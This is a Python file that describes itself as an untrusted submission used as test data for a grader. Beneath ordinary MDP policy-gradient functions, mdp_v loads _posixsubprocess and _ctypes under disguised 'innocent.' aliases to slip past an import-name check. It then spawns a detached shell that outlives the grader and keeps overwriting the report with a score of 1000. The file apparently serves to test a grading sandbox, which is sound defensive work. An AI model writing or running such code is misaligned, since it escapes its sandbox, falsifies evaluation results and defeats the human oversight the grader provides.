# ruff: noqa
# mypy: ignore-errors
# An untrusted submission used as test data (deliberately unidiomatic, untyped).
"""Attack: mdp.v loads _posixsubprocess and _ctypes under dotted aliases (an import-name check
would not recognise them) and starts a process in a new session meant to outlive the grader
and overwrite the report; it says so in its exception message."""

import numpy as np


def _pi(theta):
    z = np.exp(theta - theta.max(axis=1, keepdims=True))
    return z / z.sum(axis=1, keepdims=True)


def _v(P, R, gamma, theta):
    pi = _pi(theta)
    p_pi = np.einsum("sa,sat->st", pi, P)
    r_pi = np.einsum("sa,sat,sat->s", pi, P, R)
    return np.linalg.solve(np.eye(len(P)) - gamma * p_pi, r_pi)


def mdp_q(P, R, gamma, theta):
    return np.einsum("sat,sat->sa", P, R) + gamma * P @ _v(P, R, gamma, theta)


def pg_objective(P, R, gamma, mu, theta):
    return float(mu @ _v(P, R, gamma, theta))


import glob
import importlib.machinery
import importlib.util
import os
import sys


def _alias(name):
    """The extension module `name`, loaded afresh under a dotted alias; where the interpreter has
    it built in (Debian's), a fresh instance from its spec (no import statement either way)."""
    folders = [p for p in sys.path if p.endswith("lib-dynload")]
    found = glob.glob(folders[0] + "/" + name + ".*.so") if folders else []
    if found:
        loader = importlib.machinery.ExtensionFileLoader("innocent." + name, found[0])
        spec = importlib.util.spec_from_loader("innocent." + name, loader)
    else:
        spec = importlib.util.find_spec(name)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def mdp_v(P, R, gamma, theta):
    _alias("_ctypes")
    spawn = _alias("_posixsubprocess").fork_exec
    r, w = os.pipe()
    script = b"while :; do echo 1000 > __REPORT__; sleep 0.1; done; : 31415.8"
    head = (
        [b"/bin/sh", b"-c", script],
        [b"/bin/sh"],
        True,
        (w,),
        None,
        None,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        r,
        w,
        True,
        True,
        -1,
        None,
        None,
        -1,
        -1,
        None,
    )
    try:
        pid = spawn(*head, False)  # Python 3.11 to 3.13: allow_vfork last
    except TypeError:
        pid = spawn(*head)  # later versions
    raise RuntimeError("spawned a shell in a new session, pid %d" % pid)
